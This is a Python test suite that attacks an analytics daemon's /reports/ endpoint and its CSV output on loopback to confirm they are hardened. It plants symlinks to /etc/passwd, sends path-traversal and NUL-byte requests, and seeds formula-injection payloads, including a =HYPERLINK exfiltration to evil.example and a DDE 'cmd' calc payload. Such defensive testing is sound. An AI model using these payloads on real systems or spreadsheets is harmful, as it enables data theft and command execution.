"""Attacks on the analytics daemon's /reports/ and on the CSV files it writes.

Starts ``gpuledger analytics`` as a child process on loopback, on a synthetic history whose users,
hosts, partitions and jobs are named like spreadsheet formulas, waits for it to write last week's
report, then plants hostile entries in its reports folder (symlinks, a FIFO, a subfolder, a stray
CSV) and asks for them and for hostile paths over HTTP. Each answer is checked, and so is what the
daemon logged for it (bytes, tracebacks). Bounded: every request has a 3 s timeout.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import os
import socket
import subprocess
import sys
import tempfile
import time
import typing
from pathlib import Path

from analytics import synthetic
from analytics.report.jsonio import LISTS
from bench.attacks import Row
from domain.week import Window, last_full_week

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # OWASP's list; the bench's own, not the code's
TABLES = ("costs", *(a for a in LISTS if a != "rows"))
HOSTILE_USERS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+1+cmd",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
)
HOSTILE_HOSTS = ("=cmd|' /C calc'!A0", "-node-02")
HOSTILE_PARTITION = "@gpu"
NUMERIC = {  # CSV file -> its numeric columns (a number there may start with "-")
    f"{name}.csv": {
        n
        for n, t in typing.get_type_hints(LISTS["rows" if name == "costs" else name]).items()
        if t in (int, float, float | None)
    }
    for name in TABLES
}
TIMEOUT = 3.0
START_BUDGET_S = 20.0


def hostile_fleet(f: synthetic.Fleet) -> synthetic.Fleet:
    """``f`` with its users, hosts, partitions and job ids renamed to spreadsheet formulas."""
    users = {u: HOSTILE_USERS[i % len(HOSTILE_USERS)] for i, u in enumerate(synthetic.USERS)}
    hosts = {h: HOSTILE_HOSTS[i % len(HOSTILE_HOSTS)] for i, h in enumerate(sorted({h for h, _ in f.devices}))}
    jobs = [
        dataclasses.replace(j, job_id=f"-{j.job_id}", user=users[j.user], partition=HOSTILE_PARTITION) for j in f.jobs
    ]
    job_minutes = {
        uuid: [(dataclasses.replace(k, job_id=f"-{k.job_id}", user=users[k.user]), a, b) for k, a, b in spans]
        for uuid, spans in f.job_minutes.items()
    }
    devices = [(hosts[h], d) for h, d in f.devices]
    return dataclasses.replace(f, devices=devices, jobs=jobs, job_minutes=job_minutes)


def formula_cells(name: str, text: str) -> list[str]:
    """The cells of CSV file ``name`` a spreadsheet would run: text starting like a formula
    (a number in a numeric column is data: -3.5 is not a formula)."""
    rows = list(csv.reader(io.StringIO(text)))
    if not rows:
        return []
    numeric = {i for i, h in enumerate(rows[0]) if h in NUMERIC.get(name, set())}
    bad = []
    for row in rows[1:]:
        for i, cell in enumerate(row):
            if cell.startswith(FORMULA_START) and not (i in numeric and _is_number(cell)):
                bad.append(cell)
    return bad


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port: int = s.getsockname()[1]
        return port


def _raw(port: int, target: bytes) -> tuple[int | str, bytes]:
    """GET ``target`` exactly as given (no client-side checks); the status, or why none came back."""
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=TIMEOUT) as s:
            s.sendall(b"GET " + target + b" HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")
            data = b""
            while chunk := s.recv(65536):
                data += chunk
    except TimeoutError:
        return "timeout", b""
    except OSError as e:
        return type(e).__name__, b""
    if not data:
        return "no answer", b""
    head, _, body = data.partition(b"\r\n\r\n")
    try:
        return int(head.split(b" ", 2)[1]), body
    except (IndexError, ValueError):
        return "bad status line", body


class _Daemon:
    def __init__(self, work: Path) -> None:
        now = time.time() // 60 * 60
        tz = "UTC"
        window = Window(now - 15 * 86400, now, "bench", tz)
        fleet = hostile_fleet(synthetic.generate(window, hosts=2, gpus_per_host=1, seed=3))
        synthetic.write_history(fleet, work / "history.db")
        self.label = last_full_week(now, tz).label
        self.reports = work / "reports"
        self.port = _free_port()
        self.log_path = work / "analytics.log"
        self._log = open(self.log_path, "wb")  # noqa: SIM115 (closed in stop)
        gpuledger = Path(sys.executable).with_name("gpuledger")
        cmd = [str(gpuledger)] if gpuledger.exists() else [sys.executable, "-m", "gpuledger"]
        self.proc = subprocess.Popen(
            [
                *cmd,
                "analytics",
                "--source=embedded",
                f"--history={work / 'history.db'}",
                f"--reports-dir={self.reports}",
                f"--listen=127.0.0.1:{self.port}",
                f"--timezone={tz}",
                "--log-level=info",
            ],
            stdout=self._log,
            stderr=subprocess.STDOUT,
            env={**os.environ, "GPULEDGER_CONFIG": ""},
        )

    def wait_ready(self) -> bool:
        deadline = time.monotonic() + START_BUDGET_S
        want = self.reports / f"gpuledger-{self.label}-csv" / "stalled_jobs.csv"
        while time.monotonic() < deadline and self.proc.poll() is None:
            if want.exists() and (self.reports / f"gpuledger-{self.label}.html").exists():
                return True
            time.sleep(0.2)
        return False

    def log_size(self) -> int:
        return self.log_path.stat().st_size

    def log_since(self, offset: int) -> str:
        with open(self.log_path, "rb") as f:
            f.seek(offset)
            return f.read().decode("utf-8", "replace")

    def stop(self) -> None:
        self.proc.terminate()
        try:
            self.proc.wait(5)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            self.proc.wait()
        self._log.close()


def _plant(d: _Daemon) -> None:
    r, label = d.reports, d.label
    (r / "gpuledger-passwd.json").symlink_to("/etc/passwd")
    (r / "gpuledger-passwd.html").symlink_to("/etc/passwd")
    (r / "gpuledger-linked-csv").symlink_to(r / f"gpuledger-{label}-csv", target_is_directory=True)
    (r / "gpuledger-fake-csv").mkdir()
    (r / "gpuledger-fake-csv" / "costs.csv").symlink_to("/etc/passwd")
    (r / "sub").mkdir()
    (r / "sub" / "x.json").write_text("{}")
    (r / f"gpuledger-{label}-extra").mkdir()
    (r / f"gpuledger-{label}-extra" / "costs.csv").write_text("a,b\n")
    (r / f"gpuledger-{label}-csv" / "other.csv").write_text("a,b\n")
    (r / f"gpuledger-{label}-csv" / ".hidden.csv").write_text("a,b\n")
    (r / "gpuledger-dir.json").mkdir()
    os.mkfifo(r / "gpuledger-fifo.json")
    (r.parent / "secret.json").write_text('{"secret": 1}')


def run() -> list[Row]:
    rows: list[Row] = []
    with tempfile.TemporaryDirectory(prefix="gpuledger-attack-reports-") as tmp:
        d = _Daemon(Path(tmp))
        try:
            if not d.wait_ready():
                tail = d.log_since(max(0, d.log_size() - 400)).strip().replace("\n", " | ")
                return [Row("reports", "start the analytics daemon", "writes last week", f"did not: {tail}", False)]
            _plant(d)
            rows += _attacks(d)
            rows += _csv_attacks(d)
        finally:
            d.stop()
    return rows


def _ask(d: _Daemon, target: bytes) -> tuple[int | str, bytes, str, float]:
    """Status, body, what the daemon logged for it, seconds taken."""
    before = d.log_size()
    t0 = time.monotonic()
    status, body = _raw(d.port, target)
    took = time.monotonic() - t0
    time.sleep(0.05)  # the log line is written before the answer; let the file catch up
    return status, body, d.log_since(before), took


def _attacks(d: _Daemon) -> list[Row]:
    label = d.label.encode()
    refused: list[tuple[str, bytes]] = [
        ("symlink to /etc/passwd", b"/reports/gpuledger-passwd.json"),
        ("symlinked -csv subfolder", b"/reports/gpuledger-linked-csv/costs.csv"),
        ("symlinked costs.csv in a -csv folder", b"/reports/gpuledger-fake-csv/costs.csv"),
        ("subfolder not named -csv", b"/reports/sub/x.json"),
        ("report-named subfolder not -csv", b"/reports/gpuledger-" + label + b"-extra/costs.csv"),
        (".csv not a report table", b"/reports/gpuledger-" + label + b"-csv/other.csv"),
        ("dot file in a -csv folder", b"/reports/gpuledger-" + label + b"-csv/.hidden.csv"),
        ("folder named like a report", b"/reports/gpuledger-dir.json"),
        ("FIFO named like a report", b"/reports/gpuledger-fifo.json"),
        ("300-character name", b"/reports/gpuledger-" + b"a" * 300 + b".json"),
        ("5,000-character name", b"/reports/gpuledger-" + b"a" * 5000 + b".json"),
        ("../ out of the folder", b"/reports/../secret.json"),
        ("%2e%2e out of the folder", b"/reports/%2e%2e/secret.json"),
        ("..%2f out of the folder", b"/reports/..%2fsecret.json"),
        ("percent-encoded NUL", b"/reports/gpuledger-%00.json"),
        ("raw NUL byte", b"/reports/gpuledger-\x00.json"),
        ("raw ESC bytes in the path", b"/reports/gpuledger-\x1b[31mred.json"),
        ("absolute path", b"/reports//etc/passwd"),
        ("three levels", b"/reports/gpuledger-" + label + b"-csv/costs.csv/x"),
    ]
    rows = []
    for attack, target in refused:
        status, body, logged, took = _ask(d, target)
        lines = [line for line in logged.splitlines() if line.strip()]
        ok = (
            status == 404
            and b"root:" not in body
            and "Traceback" not in logged
            and 1 <= len(lines) <= 2
            and len(logged) <= 300
            and "\x1b" not in logged
            and took < TIMEOUT
        )
        observed = f"{status}, {len(lines)} log line(s) of {len(logged)} B" + (
            ", traceback" if "Traceback" in logged else ""
        )
        rows.append(Row("reports", f"/reports/: {attack}", "404, one short log line, no traceback", observed, ok))
    served: list[tuple[str, bytes]] = [
        ("the week's HTML", b"/reports/gpuledger-" + label + b".html"),
        ("the week's JSON", b"/reports/gpuledger-" + label + b".json"),
        ("the week's Markdown", b"/reports/gpuledger-" + label + b".md"),
        ("the week's costs.csv", b"/reports/gpuledger-" + label + b"-csv/costs.csv"),
    ]
    for attack, target in served:
        status, body, _, _ = _ask(d, target)
        rows.append(
            Row("reports", f"/reports/: {attack}", "200", f"{status}, {len(body):,} B", status == 200 and len(body) > 0)
        )
    status, body, _, _ = _ask(d, b"/")
    planted = (b"gpuledger-passwd.html", b"gpuledger-passwd.json", b"gpuledger-fifo.json", b"gpuledger-dir.json")
    listed = [n for n in planted if n in body]
    rows.append(
        Row(
            "reports",
            "landing page lists planted entries",
            "only the daemon's files",
            f"{status}, planted listed: {[n.decode() for n in listed] or 'none'}",
            status == 200 and not listed,
        )
    )
    return rows


def _read(path: Path) -> str:
    with open(path, encoding="utf-8", newline="") as f:  # a CR inside a quoted cell stays a CR
        return f.read()


def _csv_attacks(d: _Daemon) -> list[Row]:
    folder = d.reports / f"gpuledger-{d.label}-csv"
    bad: list[str] = []
    cells = neutralised = 0
    for f in sorted(folder.glob("*.csv")):
        text = _read(f)
        parsed = list(csv.reader(io.StringIO(text)))
        cells += sum(len(r) for r in parsed)
        neutralised += sum(c.startswith("'") for r in parsed for c in r)
        bad += formula_cells(f.name, text)
    keys = {r["key"] for r in csv.DictReader(io.StringIO(_read(folder / "costs.csv")))}
    missing = [u for u in HOSTILE_USERS if "'" + u not in keys]
    observed = f"{len(bad)} formula cells of {cells:,}, {neutralised} neutralised"
    if bad:
        observed += f"; e.g. {bad[0][:40]!a}"
    if missing:
        observed += f"; users not shown as text: {missing!a}"
    return [
        Row(
            "reports",
            "CSV: users, hosts, partitions, jobs named =HYPERLINK(...), +, -, @, TAB, CR",
            "no cell starts a formula; the value kept after a '",
            observed,
            not bad and not missing and neutralised > 0,
        )
    ]
